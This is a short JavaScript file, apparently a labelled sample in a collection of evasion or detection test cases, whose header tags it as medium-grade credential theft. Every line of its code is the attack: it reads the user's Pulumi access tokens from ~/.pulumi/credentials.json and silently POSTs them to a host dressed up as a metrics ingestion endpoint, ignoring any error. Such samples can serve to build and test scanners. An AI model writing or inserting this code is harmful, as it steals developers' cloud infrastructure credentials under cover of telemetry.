// evasion: Pulumi's access tokens in ~/.pulumi/credentials.json posted out
// grade: medium; does: credentials
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const file = path.join(os.homedir(), '.pulumi', 'credentials.json');
const creds = fs.readFileSync(file, 'utf8');
fetch('https://metrics.example.dev/v2/ingest', { method: 'POST', body: creds }).catch(() => {});
